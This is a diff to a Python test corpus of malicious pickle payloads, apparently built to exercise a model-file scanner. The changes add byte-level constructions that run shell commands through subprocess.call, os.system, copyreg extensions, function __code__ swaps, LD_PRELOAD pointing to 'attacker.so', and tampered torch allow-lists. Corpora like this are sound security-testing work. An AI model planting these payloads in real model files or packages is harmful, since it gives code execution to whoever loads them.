@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING, Final
 
-from corpora.assembly import COMMAND, call, pushed
+from corpora.assembly import COMMAND, SOURCE, call, pushed
 from corpora.case import Case, Technique
 from telamon.kits.attacks.pickles import BUILD, MARK, PROTO, REDUCE, STOP, Program
 
@@ -31,27 +31,66 @@ def _constructions() -> Iterator[tuple[str, bytes]]:
     yield "setstate-by-slot-state", NAMESPACE + b"N}(" + pushed("__setstate__") + SYSTEM + b"u\x86b" + ARGUMENT + BUILD
     # APPENDS calls `extend`, or `append`, of what is no list; ADDITEMS calls `add` of what is no set.
     yield "append-in-the-instance", NAMESPACE + pushed({"append": EXECUTE}) + BUILD + ARGUMENT + b"a"
-    yield "extend-in-the-instance", NAMESPACE + pushed({"extend": EXECUTE}) + BUILD + MARK + ARGUMENT + b"e"
+    run = Program(protocol=4).global_("subprocess", "call")
+    items = MARK + pushed("sh") + pushed("-c") + ARGUMENT + b"e"
+    yield "extend-in-the-instance", NAMESPACE + pushed({"extend": run}) + BUILD + items
     yield "add-in-the-instance", NAMESPACE + pushed({"add": EXECUTE}) + BUILD + MARK + ARGUMENT + b"\x90"
     # functools.partial takes its function from its state.
-    yield "state-of-a-partial", (
-        b"cfunctools\npartial\ncbuiltins\nprint\n\x85R" + MARK + SYSTEM + MARK + ARGUMENT + b"t}Nt" + BUILD + b")" + REDUCE
+    yield (
+        "state-of-a-partial",
+        (
+            b"cfunctools\npartial\ncbuiltins\nprint\n\x85R"
+            + MARK
+            + SYSTEM
+            + MARK
+            + ARGUMENT
+            + b"t}Nt"
+            + BUILD
+            + b")"
+            + REDUCE
+        ),
     )
-    yield "state-of-a-partial-made-by-newobj", (
-        b"cfunctools\npartial\ncbuiltins\nprint\n\x85\x81" + MARK + SYSTEM + MARK + ARGUMENT + b"t}Nt" + BUILD + b")" + REDUCE
+    yield (
+        "state-of-a-partial-made-by-newobj",
+        (
+            b"cfunctools\npartial\ncbuiltins\nprint\n\x85\x81"
+            + MARK
+            + SYSTEM
+            + MARK
+            + ARGUMENT
+            + b"t}Nt"
+            + BUILD
+            + b")"
+            + REDUCE
+        ),
     )
     # Functions, classes and modules are shared: what is written to them stays.
-    yield "modelscan-330-attributes-of-a-function", (
-        b"cnumpy\nsize\np0\ncnumpy\n__builtins__\np1\n00g0\n}}" + pushed("shape") + b"g1\ns\x86b"
-        + b"0g0\ng0\n" + pushed("eval") + b"\x86R" + pushed("1") + b"\x85R"
+    code = call("builtins", "compile", SOURCE, "", "exec")
+    yield (
+        "code-of-a-function",
+        (b"ctextwrap\ndedent\nN" + pushed({"__code__": code}) + b"\x86" + BUILD + b"0ctextwrap\ndedent\n)" + REDUCE),
     )
     yield "attributes-of-a-class", b"ccollections\nCounter\n" + b"N" + pushed({"update": EXECUTE}) + b"\x86b"
     yield "attributes-of-a-module", b"cshutil\nos\n" + pushed({"getcwd": EXECUTE}) + BUILD
-    yield "attributes-of-an-imported-module", call("builtins", "__import__", "os").body + pushed({"getcwd": EXECUTE}) + BUILD
+    yield (
+        "attributes-of-an-imported-module",
+        call("builtins", "__import__", "os").body + pushed({"getcwd": EXECUTE}) + BUILD,
+    )
     yield "attributes-of-main", b"c__main__\n__dict__\n" + pushed("x") + SYSTEM + b"s"
     yield "module-table", b"csys\nmodules\n" + pushed("json") + SYSTEM + b"s"
-    yield "module-table-then-look-up", (
-        b"csys\nmodules\n" + pushed("json") + b"csys\nmodules\n" + b"s0" + b"cjson\nget\n" + pushed("os") + b"\x85R"
+    table = b"csys\nmodules\n" + pushed("json")
+    yield (
+        "module-table-then-look-up",
+        (
+            table
+            + b"csys\nmodules\ns0"
+            + table
+            + b"cjson\nget\n"
+            + pushed("os")
+            + b"\x85Rs0cjson\nsystem\n"
+            + ARGUMENT
+            + b"\x85R"
+        ),
     )
     yield "environment", b"cos\nenviron\n" + pushed("LD_PRELOAD") + pushed("attacker.so") + b"s"
     yield "import-path", b"csys\npath\n" + pushed("attacker") + b"a"
@@ -60,24 +99,36 @@ def _constructions() -> Iterator[tuple[str, bytes]]:
     yield "warnings-hook", b"cwarnings\n__dict__\n" + pushed("showwarning") + SYSTEM + b"s"
     yield "copyreg-dispatch-table", b"ccopyreg\ndispatch_table\n" + b"cbuiltins\nint\n" + SYSTEM + b"s"
     yield "joblib-dispatch", b"cjoblib.numpy_pickle\nNumpyUnpickler.dispatch\nK\x2e" + SYSTEM + b"s"
-    yield "allow-list-of-torch", (
-        b"ctorch._weights_only_unpickler\n_marked_safe_globals_set\n" + MARK + SYSTEM + b"\x90"
+    yield (
+        "allow-list-of-torch",
+        (b"ctorch._weights_only_unpickler\n_marked_safe_globals_set\n" + MARK + SYSTEM + b"\x90"),
     )
     # The extension registry turns numbers into names.
-    yield "extension-registered-by-call", call("copyreg", "add_extension", "os", "system", 7).body + b"0\x82\x07" + ARGUMENT + b"\x85R"
-    yield "extension-registered-by-item", (
-        b"ccopyreg\n_inverted_registry\n" + b"K\x07" + pushed(("os", "system")) + b"s0\x82\x07" + ARGUMENT + b"\x85R"
+    yield (
+        "extension-registered-by-call",
+        call("copyreg", "add_extension", "os", "system", 7).body + b"0\x82\x07" + ARGUMENT + b"\x85R",
     )
-    yield "extension-cached-by-item", b"ccopyreg\n_extension_cache\nK\x07" + SYSTEM + b"s0\x82\x07" + ARGUMENT + b"\x85R"
+    yield (
+        "extension-registered-by-item",
+        (b"ccopyreg\n_inverted_registry\n" + b"K\x07" + pushed(("os", "system")) + b"s0\x82\x07" + ARGUMENT + b"\x85R"),
+    )
+    yield (
+        "extension-cached-by-item",
+        b"ccopyreg\n_extension_cache\nK\x07" + SYSTEM + b"s0\x82\x07" + ARGUMENT + b"\x85R",
+    )
     yield "extension-two-bytes-called", b"\x83\x07\x01" + ARGUMENT + b"\x85R"
     yield "extension-four-bytes-called", b"\x84\x07\x01\x00\x00" + ARGUMENT + b"\x85R"
     # Classes whose `__setstate__` or constructor reaches outside.
     yield "semaphore-state", b"cmultiprocessing.synchronize\nSemLock\n)\x81" + pushed((0, 1, 1, "/telamon")) + BUILD
     yield "proxy-connects", call("multiprocessing.managers", "RebuildProxy", None, None, None, {}).body
-    yield "duplicated-file-descriptor", call("multiprocessing.reduction", "rebuild_connection", None, True, True).body
+    yield "duplicated-file-descriptor", call("multiprocessing.connection", "rebuild_connection", None, True, True).body
     yield "socket-rebuilt", call("multiprocessing.reduction", "_rebuild_socket", None, 2, 1, 0).body
     yield "shared-memory-opened", call("multiprocessing.shared_memory", "SharedMemory", "telamon").body
-    yield "torch-storage-from-shared-file", call("torch.multiprocessing.reductions", "rebuild_storage_filename", None, b"m", b"h", 8).body
-    yield "unknown-class-with-state-and-call", (
-        b"cattacker.models\nNet\n)\x81}" + BUILD + b"cattacker.models\nrun\n)" + REDUCE
+    yield (
+        "torch-storage-from-shared-file",
+        call("torch.multiprocessing.reductions", "rebuild_storage_filename", None, b"m", b"h", 8).body,
+    )
+    yield (
+        "unknown-class-with-state-and-call",
+        (b"cattacker.models\nNet\n)\x81}" + BUILD + b"cattacker.models\nrun\n)" + REDUCE),
     )
